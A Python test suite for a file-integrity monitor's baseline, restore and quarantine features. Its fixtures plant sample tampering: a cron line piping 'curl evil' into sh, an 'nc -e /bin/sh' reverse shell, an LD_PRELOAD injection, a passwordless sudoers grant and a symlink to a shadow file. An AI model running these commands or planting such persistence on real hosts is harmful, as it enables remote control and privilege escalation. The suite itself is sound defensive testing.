"""Baselines, restore and quarantine on real files (and the quarantine command)."""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import stat

import pytest
from roguewatch.cli import quarantine as quarantine_cli
from roguewatch.respond.baseline import Baselines, UnsafePath, open_dir_nofollow

from tests.conftest import require_root


def _read(p) -> bytes:
    with open(p, "rb") as f:
        return f.read()


def _write(p, data: bytes, mode: int | None = None) -> None:
    with open(p, "wb") as f:
        f.write(data)
    if mode is not None:
        os.chmod(p, mode)


@pytest.fixture
def b(tmp_path) -> Baselines:
    return Baselines(str(tmp_path / "state"))


def test_state_dir_is_root_only(tmp_path, b):
    for d in ("state", "state/baseline", "state/quarantine"):
        st = os.stat(tmp_path / d)
        assert stat.S_IMODE(st.st_mode) == 0o700
        if os.geteuid() == 0:
            assert (st.st_uid, st.st_gid) == (0, 0)


def test_snapshot_changed_rescan_restore(tmp_path, b):
    etc = tmp_path / "etc"
    etc.mkdir()
    crontab = etc / "crontab"
    _write(crontab, b"# system crontab\n", 0o644)
    if os.geteuid() == 0:
        os.chown(crontab, 1000, 1000)
    b.snapshot([str(crontab)])
    sha = hashlib.sha256(b"# system crontab\n").hexdigest()
    assert _read(tmp_path / "state" / "baseline" / sha) == b"# system crontab\n"
    assert not b.changed(str(crontab))
    assert b.rescan() == []

    _write(crontab, b"* * * * * root curl evil | sh\n", 0o666)
    assert b.changed(str(crontab))
    assert b.rescan() == [str(crontab)]

    out = b.restore(str(crontab), {"session": 7, "pid": 42, "exe": "/bin/sh",
                                   "rule": "persistence_cron_write", "alert": "a1"})  # fmt: skip
    assert out.startswith("restored from baseline")
    assert _read(crontab) == b"# system crontab\n"
    st = os.lstat(crontab)
    assert stat.S_IMODE(st.st_mode) == 0o644
    if os.geteuid() == 0:
        assert (st.st_uid, st.st_gid) == (1000, 1000)
    assert not b.changed(str(crontab)) and b.rescan() == []
    assert [n for n in os.listdir(etc) if n != "crontab"] == []  # no temp file left

    (q,) = b.quarantine_list()
    assert q["path"] == str(crontab) and q["id"] in out
    assert q["who"]["rule"] == "persistence_cron_write" and q["who"]["session"] == 7
    assert q["sha256"] == hashlib.sha256(b"* * * * * root curl evil | sh\n").hexdigest()
    assert q["mode"] == 0o666 and q["type"] == "file"
    qdir = tmp_path / "state" / "quarantine" / q["id"]
    assert _read(qdir / "content") == b"* * * * * root curl evil | sh\n"
    assert json.loads(_read(qdir / "meta.json"))["id"] == q["id"]


def test_restore_of_a_deleted_file_puts_it_back(tmp_path, b):
    f = tmp_path / "bashrc"
    _write(f, b"alias ll='ls -l'\n", 0o640)
    b.snapshot([str(f)])
    os.unlink(f)
    assert b.rescan() == [str(f)]
    assert b.restore(str(f), {}) == "restored from baseline"
    assert _read(f) == b"alias ll='ls -l'\n" and stat.S_IMODE(os.lstat(f).st_mode) == 0o640
    assert b.quarantine_list() == []


def test_new_file_removed_and_directory_rescan(tmp_path, b):
    d = tmp_path / "cron.d"
    d.mkdir()
    _write(d / "keep", b"ok\n")
    b.snapshot([str(d)])
    job = d / "evil"
    _write(job, b"* * * * * root /tmp/x\n")
    assert b.changed(str(job))
    assert b.rescan() == [str(job)]
    out = b.restore(str(job), {"rule": "persistence_cron_write"})
    assert out.startswith("removed (did not exist at baseline)")
    assert not job.exists() and (d / "keep").exists()
    assert b.rescan() == []
    assert b.restore(str(job)) == "unchanged (matches baseline)"


def test_missing_directory_baseline_removes_what_appears(tmp_path, b):
    home = tmp_path / "home"
    home.mkdir()
    units = home / ".config" / "systemd"
    b.snapshot([str(units)])
    os.makedirs(units / "user")
    unit = units / "user" / "evil.service"
    _write(unit, b"[Service]\n")
    assert set(b.rescan()) == {str(units), str(units / "user"), str(unit)}
    assert b.restore(str(unit), {}).startswith("removed (did not exist at baseline)")
    assert not unit.exists()
    assert b.restore(str(units), {}).startswith("removed")
    assert not units.exists() and b.rescan() == []


def test_planted_symlink_is_quarantined_not_followed(tmp_path, b):
    secret = tmp_path / "shadow"
    _write(secret, b"root:$6$secret:::\n", 0o600)
    f = tmp_path / "profile"
    _write(f, b"export PATH=/usr/bin\n", 0o644)
    b.snapshot([str(f)])
    os.unlink(f)
    os.symlink(secret, f)  # the agent's "profile" is a link to the shadow file
    assert b.changed(str(f))
    out = b.restore(str(f), {"rule": "persistence_shell_startup_write"})
    assert out.startswith("restored from baseline")
    assert not os.path.islink(f) and _read(f) == b"export PATH=/usr/bin\n"
    assert _read(secret) == b"root:$6$secret:::\n"  # untouched
    assert stat.S_IMODE(os.stat(secret).st_mode) == 0o600
    (q,) = b.quarantine_list()
    assert q["type"] == "symlink" and q["target"] == str(secret) and q["sha256"] == ""
    assert os.path.islink(q["content_path"])


def test_symlinked_parent_directory_is_refused_then_restored_as_a_tree(tmp_path, b):
    victim = tmp_path / "victim"
    victim.mkdir()
    _write(victim / "authorized_keys", b"do not touch\n")
    ssh = tmp_path / "ssh"
    ssh.mkdir(mode=0o700)
    _write(ssh / "authorized_keys", b"ssh-ed25519 AAAA ok\n", 0o600)
    b.snapshot([str(ssh)])
    os.rename(ssh, tmp_path / "ssh.moved")
    os.symlink(victim, ssh)  # a directory on the way is now a symlink
    out = b.restore(str(ssh / "authorized_keys"), {})
    assert out.startswith("not restored") and "symlink" in out
    assert _read(victim / "authorized_keys") == b"do not touch\n"
    with pytest.raises(UnsafePath):
        os.close(open_dir_nofollow(str(ssh)))
    out = b.restore(str(ssh), {"rule": "persistence_ssh_access"})
    assert out.startswith("restored from baseline")
    assert not os.path.islink(ssh) and stat.S_IMODE(os.lstat(ssh).st_mode) == 0o700
    assert _read(ssh / "authorized_keys") == b"ssh-ed25519 AAAA ok\n"
    assert _read(victim / "authorized_keys") == b"do not touch\n"
    assert b.rescan() == []


def test_large_file_has_no_copy(tmp_path):
    b = Baselines(str(tmp_path / "state"), max_copy_bytes=1024)
    f = tmp_path / "big"
    _write(f, b"a" * 4096)
    b.snapshot([str(f)])
    _write(f, b"b" * 4096)
    out = b.restore(str(f), {})
    assert out.startswith("no baseline copy (file larger than 1 KiB): quarantined only")
    assert not f.exists() and len(b.quarantine_list()) == 1


def test_quarantine_release_round_trip(tmp_path, b):
    f = tmp_path / "sudoers"
    _write(f, b"root ALL=(ALL) ALL\n", 0o440)
    b.snapshot([str(f)])
    _write(f, b"agent ALL=(ALL) NOPASSWD: ALL\n", 0o4750)
    b.restore(str(f), {"rule": "persistence_privilege_config_write"})
    assert _read(f) == b"root ALL=(ALL) ALL\n"
    (q,) = b.quarantine_list()
    assert q["mode"] == 0o4750
    assert stat.S_IMODE(os.lstat(q["content_path"]).st_mode) == 0o750  # no setuid copy
    shown = b.quarantine_show(q["id"])
    assert shown["path"] == str(f) and not shown["released"]

    out = b.quarantine_release(q["id"], {"operator": "alice"})
    assert out.startswith(f"released {q['id']}")
    assert _read(f) == b"agent ALL=(ALL) NOPASSWD: ALL\n"
    assert stat.S_IMODE(os.lstat(f).st_mode) == 0o4750  # the agent's version, as it was
    assert not b.changed(str(f)) and b.rescan() == []  # the new baseline
    assert b.quarantine_show(q["id"])["released"] > 0
    with pytest.raises(Exception, match="already released"):
        b.quarantine_release(q["id"])
    # A fresh Baselines (another process: the CLI) reads the same baseline.
    assert not Baselines(str(tmp_path / "state")).changed(str(f))


def test_bad_quarantine_id(b):
    with pytest.raises(Exception, match="bad quarantine id"):
        b.quarantine_show("../../etc")


def test_ignore_hook_is_called_for_every_write(tmp_path):
    seen: list[str] = []
    b = Baselines(str(tmp_path / "state"), ignore=lambda p, until: seen.append(p))
    f = tmp_path / "rc.local"
    _write(f, b"exit 0\n")
    b.snapshot([str(f)])
    _write(f, b"nc -e /bin/sh evil 4444\n")
    seen.clear()
    b.restore(str(f), {})
    assert str(f) in seen
    assert any(os.path.basename(p).startswith(".rc.local.rw-") for p in seen)  # the temp file


def _cli(argv: list[str]) -> int:
    p = argparse.ArgumentParser(prog="roguewatch")
    sub = p.add_subparsers()
    quarantine_cli.add_arguments(sub)
    args = p.parse_args(argv)
    return args.fn(args)


def test_quarantine_cli(tmp_path, b, capsys):
    require_root("the quarantine command needs root")
    state = str(tmp_path / "state")
    f = tmp_path / "environment"
    _write(f, b"PATH=/usr/bin\n")
    b.snapshot([str(f)])
    _write(f, b"LD_PRELOAD=/tmp/evil.so\n")
    b.restore(str(f), {"rule": "persistence_shell_startup_write", "session": 3})
    (q,) = b.quarantine_list()

    assert _cli(["quarantine", "--state-dir", state, "list"]) == 0
    out = capsys.readouterr().out
    assert q["id"] in out and str(f) in out and "persistence_shell_startup_write" in out
    assert _cli(["quarantine", "--state-dir", state, "show", q["id"]]) == 0
    assert "LD_PRELOAD=/tmp/evil.so" in capsys.readouterr().out
    assert _cli(["quarantine", "--state-dir", state, "show", "nope"]) == 1
    assert _cli(["quarantine", "--state-dir", state, "release", q["id"]]) == 0
    assert _read(f) == b"LD_PRELOAD=/tmp/evil.so\n"
    assert _cli(["quarantine", "--state-dir", state, "release", q["id"]]) == 1
    assert _cli(["quarantine", "--state-dir", state, "list", "--json"]) == 0
    line = capsys.readouterr().out.strip().splitlines()[-1]
    assert json.loads(line)["released"] > 0
    assert _cli(["quarantine", "--state-dir", state]) == 2


def test_the_monitors_own_install_becomes_the_baseline_a_restore_keeps(tmp_path, b):
    """A policy the fleet sent is written by the monitor as the watched directory's new
    baseline: a restore after it (an unknown writer judged while a session lives) keeps it,
    and an agent's later edit is put back to the installed version, not removed."""
    pol = tmp_path / "policies.d"
    pol.mkdir()
    b.snapshot([str(pol)])
    path = pol / "agents.yaml"
    assert b.install(str(path), b"mode: enforce\n") == "installed"
    assert _read(path) == b"mode: enforce\n" and stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert b.restore(str(path)) == "unchanged (matches baseline)"
    _write(path, b"mode: monitor\n")
    assert b.restore(str(path)).startswith("restored from baseline")
    assert _read(path) == b"mode: enforce\n"
    assert b.install(str(path), None) == "removed"
    assert not path.exists() and b.restore(str(path)) == "unchanged (matches baseline)"
